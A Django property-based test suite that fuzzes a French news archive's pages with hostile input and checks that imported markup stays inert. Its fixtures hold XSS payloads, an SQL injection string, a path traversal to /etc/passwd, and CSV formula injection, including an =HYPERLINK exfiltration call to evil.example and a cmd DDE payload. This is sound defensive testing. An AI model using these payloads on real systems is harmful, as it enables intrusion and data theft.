"""Hostile input, property-based: no URL and no parameter value makes the archive answer 500.

Every public page is driven with query strings full of quotes, operators, control characters,
unicode, 10 kB values, absurd page numbers, unknown facet values, malformed dates and unknown
slugs. Whatever comes in, the answer is a page (or an export), a redirect, or the site's own error
page. Pages are listed by URL name, and a public page missing from the list fails the suite.
"""

import string
from urllib.parse import quote

import pytest
from django.urls import NoReverseMatch, get_resolver, reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.factories import (
    ArticleFactory,
    ArticleMeetingFactory,
    ArticlePersonFactory,
    MeetingFactory,
    PersonFactory,
    QuoteFactory,
    SourceFactory,
)

pytestmark = pytest.mark.django_db

SITE_MARKER = 'class="site-header"'
MEETING, PERSON, SOURCE, ARTICLE = (
    "reunion-hostile-2020",
    "personne-hostile",
    "journal-hostile",
    "article-hostile",
)
# Bounded so the whole file stays well under a minute; derandomized so a failure reproduces.
HEALTH_CHECKS = [HealthCheck.function_scoped_fixture, HealthCheck.too_slow]


def examples(count: int):
    return settings(
        max_examples=count,
        deadline=None,
        derandomize=True,
        suppress_health_check=HEALTH_CHECKS,
    )


# The search page and its feed read the most parameters: they get the most examples.
EXAMPLES_PER_PAGE = {"articles:search": 60, "articles:search-feed": 30}
EXAMPLES = examples(25)

# --- What a hostile visitor types --------------------------------------------------------------

SEARCH_SYNTAX = [
    '"',
    '""',
    '"coalition',
    "« Daech",
    "»",
    "OR",
    "OR OR OR",
    "a OR",
    "AND",
    "NOT",
    "SAUF",
    "-",
    "--",
    "-coalition",
    "*",
    "**",
    "a*",
    "co*",
    "*lition",
    "?",
    "(",
    "((((((((((((coalition",
    ")",
    "()",
    "coalition)",
    "~",
    "coalition~2",
    "^",
    "title:coalition",
    "content:*",
    "django_id:1",
    "[a TO z]",
    "{}",
    "\\",
    "'",
    "l’",
    "d'",
    "qu’il",
    "États-Unis",
    "\x00",
    "\x1b[31m",
    "\u202e",
    "\ufeff",
    "\u200b",
    "%00",
    "%",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "'; DROP TABLE articles_article; --",
    "../../etc/passwd",
    "𝕯𝖆𝖊𝖈𝖍",
    "ٱلدولة",
    "🙂" * 20,
]
MALFORMED_DATES = [
    "2021-02-30",
    "2021-13-01",
    "0000-00-00",
    "9999-12-31",
    "99999-01-01",
    "1-1-1",
    "31/12/99999",
    "2021/02/03",
    "demain",
    "-1",
    "2021-02-03T25:61",
    "1e10",
]
PAGE_NUMBERS = ["0", "-1", "-999999999", "1" + "0" * 40, "2.5", "1e9", "NaN", "inf", "²", "٣"]

huge = st.builds(
    lambda char, size: char * size,
    st.sampled_from(["a", "é", '"', "*", "(", "OR ", "\x01", "🙂"]),
    st.integers(min_value=1_000, max_value=10_240),
)
hostile_value = st.one_of(
    st.text(max_size=60),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=200),
    st.sampled_from(SEARCH_SYNTAX + MALFORMED_DATES + PAGE_NUMBERS),
    st.lists(st.sampled_from(SEARCH_SYNTAX), min_size=1, max_size=8).map(" ".join),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    huge,
)
any_slug = st.from_regex(r"[-a-zA-Z0-9_]{1,120}", fullmatch=True)


# --- The pages, by URL name: (name, path arguments, query parameters they read) ---------------

SEARCH_PARAMS = [
    "q",
    "page",
    "par_page",
    "tri",
    "du",
    "au",
    "format",
    "lieu",
    "intervenant",
    "reunion",
    "type",
    "source",
    "annee",
    "langue",
    "sauf_lieu",
    "sauf_intervenant",
    "sauf_source",
    "sauf_annee",
]
ROUTES = [
    ("articles:home", {}, ["page"]),
    ("articles:search", {}, SEARCH_PARAMS),
    ("articles:search-feed", {}, SEARCH_PARAMS),
    ("articles:meeting-list", {}, ["lieu", "type", "page"]),
    ("articles:meeting-detail", {"slug": MEETING}, ["tri", "page"]),
    ("articles:meeting-compare", {"slug": MEETING}, ["page"]),
    ("articles:person-list", {}, ["page", "q"]),
    ("articles:person-detail", {"slug": PERSON}, ["page"]),
    ("articles:source-list", {}, ["page"]),
    ("articles:source-detail", {"slug": SOURCE}, ["page"]),
    ("articles:article-detail", {"slug": ARTICLE}, []),
    ("articles:article-citation", {"slug": ARTICLE, "format": "bib"}, []),
    ("articles:article-citation", {"slug": ARTICLE, "format": "ris"}, []),
    ("articles:article-citation", {"slug": ARTICLE, "format": "json"}, []),
]
ROUTE_IDS = [f"{name}:{kwargs.get('format', '')}".rstrip(":") for name, kwargs, _ in ROUTES]


def url_of(name: str, kwargs: dict) -> str:
    try:
        return reverse(name, kwargs=kwargs)
    except NoReverseMatch:
        pytest.fail(f"ROUTES names {name}, which no URL pattern defines: update ROUTES")


@pytest.fixture
def archive(search_index):
    """One of each thing a page shows, indexed, so pages render with content."""
    source = SourceFactory(name="Journal hostile", slug=SOURCE)
    meeting = MeetingFactory(slug=MEETING)
    person = PersonFactory(name="Personne Hostile", slug=PERSON)
    for number in range(3):
        article = ArticleFactory(
            slug=ARTICLE if number == 0 else f"{ARTICLE}-{number}",
            title=f"La coalition contre Daech, dépêche {number}",
            body=(
                "Les ministres de la coalition internationale se sont réunis. "
                f"« Nous resterons unis », a déclaré Personne Hostile. Dépêche {number}."
            ),
            source=source,
        )
        ArticleMeetingFactory(article=article, meeting=meeting)
        ArticlePersonFactory(article=article, person=person)
        QuoteFactory(article=article, person=person, text="Nous resterons unis")
    search_index.drain()
    return search_index


def assert_handled(response, url):
    """No 500; an HTML error is the site's own page, never Django's or a traceback."""
    status = response.status_code
    assert status < 500 or status == 503, f"{status} for {url}"
    assert status in {200, 301, 302, 400, 404, 405, 503}, f"{status} for {url}"
    content_type = response.get("Content-Type", "")
    if status >= 400 and content_type.startswith("text/html"):
        html = response.content.decode()
        assert SITE_MARKER in html, f"{status} for {url} is not the site's own error page"
        assert "Traceback" not in html


@pytest.mark.parametrize(("name", "kwargs", "parameters"), ROUTES, ids=ROUTE_IDS)
def test_no_query_string_makes_a_page_fail(client, archive, name, kwargs, parameters):
    url = url_of(name, kwargs)
    known = parameters or ["page"]
    query = st.dictionaries(
        st.one_of(st.sampled_from(known), st.sampled_from(["x", "q[]", "page[0]", "", "%"])),
        st.one_of(hostile_value, st.lists(hostile_value, min_size=2, max_size=4)),
        max_size=4,
    )

    @examples(EXAMPLES_PER_PAGE.get(name, 25 if parameters else 10))
    @given(query=query)
    def check(query):
        response = client.get(url, query)
        assert_handled(response, f"{url} {query!r}"[:300])
        if hasattr(response, "streaming_content"):
            b"".join(response.streaming_content)  # a streamed export fails while streaming

    check()


@pytest.mark.parametrize(
    ("name", "kwargs", "parameters"),
    [route for route in ROUTES if route[1].get("slug")],
    ids=[route_id for route_id, route in zip(ROUTE_IDS, ROUTES, strict=True) if route[1]],
)
def test_unknown_slugs_are_the_sites_404(client, archive, name, kwargs, parameters):
    url_of(name, kwargs)

    @examples(15)
    @given(slug=any_slug)
    def check(slug):
        url = reverse(name, kwargs={**kwargs, "slug": slug})
        response = client.get(url)
        assert_handled(response, url)
        assert response.status_code in {200, 404}

    check()


@EXAMPLES
@given(
    prefix=st.sampled_from(["/", "/reunions/", "/intervenants/", "/sources/", "/articles/"]),
    segment=st.text(min_size=1, max_size=80),
    suffix=st.sampled_from(["", "/", "/comparaison/", "/citation.bib", "/citation.exe", "//"]),
)
def test_arbitrary_paths_are_the_sites_404(client, archive, prefix, segment, suffix):
    url = prefix + quote(segment, safe=string.ascii_letters + string.digits + "-_") + suffix
    response = client.get(url)
    assert_handled(response, url)


def test_every_public_page_is_covered_by_the_hostile_input_test():
    """A page added later must join ROUTES, or this fails."""
    covered = {name for name, _, _ in ROUTES}
    resolver = get_resolver()
    public = {
        f"articles:{name}"
        for name in resolver.namespace_dict["articles"][1].reverse_dict
        if isinstance(name, str)
    }
    assert sorted(public - covered) == [], "public pages not driven by the hostile-input test"
    assert sorted(covered - public) == [], "ROUTES names pages that no longer exist"


# --- Hostile content: markup in an imported article is text everywhere it is shown ------------

HOSTILE_HTML = """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8">
<title>&lt;script&gt;alert("titre")&lt;/script&gt; La coalition à Rome
&lt;img src=x onerror=alert(1)&gt;</title>
<meta name="description" content="&lt;script&gt;alert('description')&lt;/script&gt; Daech">
<meta name="author" content="&lt;b onmouseover=alert(3)&gt;Auteur&lt;/b&gt;">
<script>alert("script de la page source")</script>
<style>body { background: url(javascript:alert(4)) }</style>
</head><body onload="alert(5)">
<h1>&lt;script&gt;alert("titre")&lt;/script&gt; La coalition à Rome
&lt;img src=x onerror=alert(1)&gt;</h1>
<p class="meta"><time datetime="2021-06-28">28 juin 2021</time></p>
<div class="body">
<p>Rome, 28 juin 2021 - Les ministres de la coalition mondiale contre Daech se sont réunis à
Rome. &lt;script&gt;alert("corps")&lt;/script&gt; Le texte contient aussi
&lt;a href="javascript:alert(6)"&gt;un lien piégé&lt;/a&gt; et
<a href="javascript:alert(7)">un vrai lien javascript</a>.</p>
<p>Balisage cassé : <b>gras non fermé <i>italique <p>paragraphe
&lt;scr&lt;script&gt;ipt&gt;alert(8)&lt;/scr&lt;/script&gt;ipt&gt; ]]&gt; --&gt; &lt;/textarea&gt;
&lt;!-- {{ secret }} {% csrf_token %} &lt;svg onload=alert(9)&gt;</p>
<p>« Nous resterons unis face à la menace terroriste », a déclaré le ministre. La coalition
poursuit la stabilisation des zones libérées en Irak et en Syrie.</p>
<p>Les participants ont évoqué le sort des combattants étrangers détenus dans le nord-est de la
Syrie et la menace croissante du groupe en Afrique, notamment au Sahel.</p>
</div></body></html>
""".encode()

FORMULA_TEXT = """=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez ici") coalition Rome

+cmd|' /C calc'!A0 Rome, 28 juin 2021 - La coalition mondiale contre Daech s'est réunie à Rome
pour évoquer la stabilisation des zones libérées et le financement des programmes.

-2+3 @SUM(1+1) Les ministres ont également discuté des combattants étrangers détenus en Syrie
et de la menace du groupe en Afrique.
""".encode()

# Each is markup the file carried as text: it must never reach a page as markup.
RAW_PAYLOADS = [
    "<script>alert(",
    "<img src=x onerror",
    'href="javascript:',
    "<svg onload",
    "<scr<script>",
    "--> </textarea>",
    "<b onmouseover",
    "<!-- {{",
]


def assert_shown_as_text(html: str, where: str) -> None:
    from tests.test_production import inline_code

    for payload in RAW_PAYLOADS:
        assert payload not in html, f"{payload!r} reached {where} as markup"
    assert inline_code(html) == [], where


@pytest.fixture
def hostile_articles(search_index):
    from articles.importing import import_article
    from articles.models import Article, ArticleMeeting, Meeting

    meeting = Meeting.objects.get(slug="rome-2021")
    articles = []
    for filename, raw in [("piege.html", HOSTILE_HTML), ("formules.txt", FORMULA_TEXT)]:
        result = import_article(raw=raw, filename=filename, status=Article.Status.PUBLISHED)
        assert result.article is not None, result.message
        ArticleMeeting.objects.get_or_create(article=result.article, meeting=meeting)
        articles.append(Article.objects.get(pk=result.article.pk))
    search_index.drain()
    assert "<script>" in articles[0].title and "<script>" in articles[0].body
    return articles


def test_hostile_markup_is_text_on_every_public_page(client, hostile_articles):
    hostile, formula = hostile_articles
    pages = [
        "/",
        hostile.get_absolute_url(),
        formula.get_absolute_url(),
        "/reunions/rome-2021/",
        "/reunions/rome-2021/comparaison/",
        "/recherche/?q=coalition",
        "/recherche/?q=Rome+Daech",
        "/recherche/?q=alert",
        "/recherche/?q=%22coalition+mondiale%22",
    ]
    for person_link in hostile.person_links.all():
        pages.append(person_link.person.get_absolute_url())
    if hostile.source:
        pages.append(hostile.source.get_absolute_url())
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert_shown_as_text(html, url)
        if url != "/recherche/?q=coalition":
            continue
        assert "&lt;script&gt;alert(" in html, "the title is shown, as text"


def test_the_article_page_shows_the_markup_as_text(client, hostile_articles):
    html = client.get(hostile_articles[0].get_absolute_url()).content.decode()
    assert "&lt;script&gt;alert(&quot;titre&quot;)&lt;/script&gt;" in html
    assert "&lt;svg onload=alert(9)&gt;" in html
    assert "un vrai lien javascript" in html  # the text of a real javascript: link, not the link


def test_hostile_markup_is_text_in_every_admin_page(admin_client, hostile_articles):
    from tests.test_production import admin_pages

    for url in admin_pages(hostile_articles[0]):
        response = admin_client.get(url)
        if response.status_code != 200 or not response["Content-Type"].startswith("text/html"):
            continue
        assert_shown_as_text(response.content.decode(), url)


def test_hostile_markup_is_text_in_the_atom_feed(client, hostile_articles):
    from xml.etree import ElementTree

    response = client.get("/recherche/flux/", {"q": "coalition Rome"})
    assert response.status_code == 200
    feed = ElementTree.fromstring(response.content)  # well-formed despite ]]> and --> in the text
    atom = "{http://www.w3.org/2005/Atom}"
    titles = [entry.findtext(f"{atom}title") for entry in feed.iter(f"{atom}entry")]
    assert hostile_articles[0].title in titles  # the title, as text
    for entry in feed.iter(f"{atom}entry"):
        for element in entry:
            if element.get("type") == "html" and element.text:
                # HTML carried in the feed: the reader renders it, so it must be inert.
                assert_shown_as_text(element.text, f"feed {element.tag}")


def test_hostile_markup_is_inert_in_the_json_export(client, hostile_articles):
    import json

    response = client.get("/recherche/", {"q": "coalition Rome", "format": "json"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    data = json.loads(response.content)

    def strings(node, key=""):
        if isinstance(node, dict):
            for child_key, value in node.items():
                yield from strings(value, child_key)
        elif isinstance(node, list):
            for value in node:
                yield from strings(value, key)
        elif isinstance(node, str):
            yield key, node

    found = list(strings(data))
    assert any(value == hostile_articles[0].title for _, value in found)
    for key, value in found:
        if "html" in key:
            assert_shown_as_text(value, f"JSON {key}")


def test_spreadsheet_formulas_are_neutralised_in_the_csv_export(client, hostile_articles):
    import csv
    import io

    response = client.get("/recherche/", {"q": "coalition Rome", "format": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(rows) >= 3, rows
    assert any("HYPERLINK" in cell for row in rows for cell in row)
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_citation_exports_are_never_served_as_html(client, hostile_articles):
    for export in ["bib", "ris", "json"]:
        response = client.get(f"{hostile_articles[0].get_absolute_url()}citation.{export}")
        if response.status_code == 404:
            response = client.get(
                reverse(
                    "articles:article-citation",
                    kwargs={"slug": hostile_articles[0].slug, "format": export},
                )
            )
        assert response.status_code == 200, export
        assert not response["Content-Type"].startswith("text/html"), export
        assert response["X-Content-Type-Options"] == "nosniff"


# --- Abuse limits: what one request can make the engine do is bounded ------------------------


@pytest.fixture
def many_articles(search_index):
    """Enough matching articles to overflow a small page or a small export limit."""
    from articles.models import Meeting

    meeting = Meeting.objects.get(slug="rome-2021")
    for number in range(12):
        article = ArticleFactory(
            title=f"Bilan de la coalition, volet {number}",
            body=f"La coalition mondiale contre Daech publie le volet {number} de son bilan.",
        )
        ArticleMeetingFactory(article=article, meeting=meeting)
    search_index.drain()
    return search_index


def json_search(client, **query):
    import json

    response = client.get("/recherche/", {**query, "format": "json"})
    assert response.status_code == 200, response.content[:300]
    return json.loads(response.content)


def test_a_10_kb_query_is_cut_to_the_maximum_length_with_a_notice(client, many_articles):
    from articles import search
    from articles.search.syntax import MAX_QUERY_LENGTH

    huge_query = "coalition " * 1_024
    params = search.parse({"q": huge_query})
    assert len(params.q) <= MAX_QUERY_LENGTH
    assert any("trop longue" in notice for notice in params.notices)
    response = client.get("/recherche/", {"q": huge_query})
    assert response.status_code == 200
    assert "trop longue" in response.content.decode()


def test_a_query_keeps_at_most_thirty_terms(client, many_articles):
    from articles import search
    from articles.search.syntax import MAX_TERMS, leaves

    params = search.parse({"q": " ".join(f"mot{number}" for number in range(200))})
    assert sum(1 for _ in leaves(params.query.tree)) <= MAX_TERMS


def test_short_prefixes_are_refused_so_a_wildcard_never_expands_to_the_whole_lexicon(
    client, many_articles
):
    from articles import search
    from articles.search.syntax import MIN_PREFIX_LENGTH, Prefix, leaves

    for query in ["a*", "co*", "* coalition", "c* o* a*"]:
        params = search.parse({"q": query})
        prefixes = [leaf for leaf, _ in leaves(params.query.tree) if isinstance(leaf, Prefix)]
        assert all(len(leaf.text) >= MIN_PREFIX_LENGTH for leaf in prefixes), query
        assert client.get("/recherche/", {"q": query}).status_code == 200
    params = search.parse({"q": " ".join(f"coa{chr(97 + n % 26)}*" for n in range(100))})
    assert sum(1 for _ in leaves(params.query.tree)) <= 30


def test_the_page_size_and_page_number_are_capped(client, many_articles):
    from articles import search

    params = search.parse({"par_page": "1000000", "page": str(10**12)})
    assert params.per_page == search.MAX_PER_PAGE
    assert params.page == search.MAX_PAGE
    data = json_search(client, q="coalition", par_page="1000000")
    assert len(str(data)) < 1_000_000
    assert data["total"] >= 12
    for negative in ["-5", "0", "abc", "1e9"]:
        assert search.parse({"par_page": negative, "page": negative}).page == 1


def test_facet_values_are_capped_in_number_and_length(client, many_articles):
    from django.http import QueryDict

    from articles import search

    query = QueryDict(mutable=True)
    query.setlist("lieu", [f"ville-{number}-" + "x" * 500 for number in range(200)])
    params = search.parse(query)
    assert all(len(values) <= search.MAX_VALUES_PER_FACET for values in params.selected.values())
    response = client.get("/recherche/?" + query.urlencode())
    assert response.status_code == 200


def test_the_csv_export_is_streamed_and_bounded(client, many_articles, monkeypatch):
    import csv
    import io

    from articles.views import search as search_views

    response = client.get("/recherche/", {"q": "coalition", "format": "csv"})
    assert response.streaming, "a large export must not be built in memory"
    full = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert len(full) - 1 >= 12
    monkeypatch.setattr(search_views, "CSV_MAX_ROWS", 5)
    response = client.get("/recherche/", {"q": "coalition", "format": "csv"})
    bounded = b"".join(response.streaming_content).decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(bounded), delimiter=";"))) - 1 == 5
    assert search_views.CSV_MAX_ROWS <= 10_000  # the default stays a bound, not a dump


def test_the_feed_is_bounded(client, many_articles, monkeypatch):
    from xml.etree import ElementTree

    from articles.views import search as search_views

    monkeypatch.setattr(search_views, "FEED_SIZE", 3)
    response = client.get("/recherche/flux/", {"q": "coalition"})
    entries = ElementTree.fromstring(response.content).findall("{http://www.w3.org/2005/Atom}entry")
    assert len(entries) == 3


# --- The admin's query parameters: an editor's mistyped or forged link is never a 500 ----------

ARTICLE_CHANGELIST_PARAMS = [
    "q",
    "o",
    "p",
    "e",
    "all",
    "status__exact",
    "language__exact",
    "source__id__exact",
    "meetings__id__exact",
    "annee",
    "doublon",
    "reunion_confirmee",
    "published_on__year",
    "published_on__month",
    "published_on__day",
]
ARTICLE_ADD_PARAMS = [
    "title",
    "slug",
    "source",
    "near_duplicate_of",
    "meetings",
    "status",
    "language",
    "published_on",
    "canonical_url",
    "title_is_derived",
    "body",
    "_changelist_filters",
]
ADMIN_ROUTES = [
    ("admin:articles_article_changelist", ARTICLE_CHANGELIST_PARAMS),
    ("admin:articles_article_add", ARTICLE_ADD_PARAMS),
    ("admin:articles_person_add", ["name", "slug", "needs_review"]),
    ("admin:articles_meeting_add", ["city", "kind", "country", "start_date", "end_date"]),
    ("admin:articles_source_add", ["name", "kind", "slug"]),
]
ADMIN_ERRORS_OF_OWN = {200, 302, 400, 404}
admin_value = st.one_of(
    hostile_value,
    st.sampled_from(["abc", "1,abc", "1," + "9" * 30, "9" * 30, "-1", "0", "²", "٣", "1.5", ","]),
)


def test_an_invalid_initial_value_in_the_add_form_is_ignored_not_a_500(admin_client, archive):
    from articles.models import Source

    response = admin_client.get("/admin/articles/article/add/?source=abc")
    assert response.status_code == 200
    assert "Valeur initiale ignorée" in response.content.decode()
    source = Source.objects.get(slug=SOURCE)
    response = admin_client.get(f"/admin/articles/article/add/?source={source.pk}&title=Titre")
    assert response.status_code == 200
    form = response.context["adminform"].form
    assert form.initial["source"] == str(source.pk)
    assert form.initial["title"] == "Titre"


@pytest.mark.parametrize(("name", "parameters"), ADMIN_ROUTES, ids=[r[0] for r in ADMIN_ROUTES])
def test_no_query_string_makes_an_admin_page_fail(admin_client, archive, name, parameters):
    url = reverse(name)
    query = st.dictionaries(
        st.one_of(st.sampled_from(parameters), st.sampled_from(["x", "_popup", "_to_field"])),
        st.one_of(admin_value, st.lists(admin_value, min_size=2, max_size=3)),
        max_size=4,
    )

    @examples(40 if name.endswith("article_add") else 25)
    @given(query=query)
    def check(query):
        response = admin_client.get(url, query)
        assert response.status_code in ADMIN_ERRORS_OF_OWN, f"{response.status_code} {query!r}"
        assert "Traceback" not in response.content.decode(errors="replace")

    check()
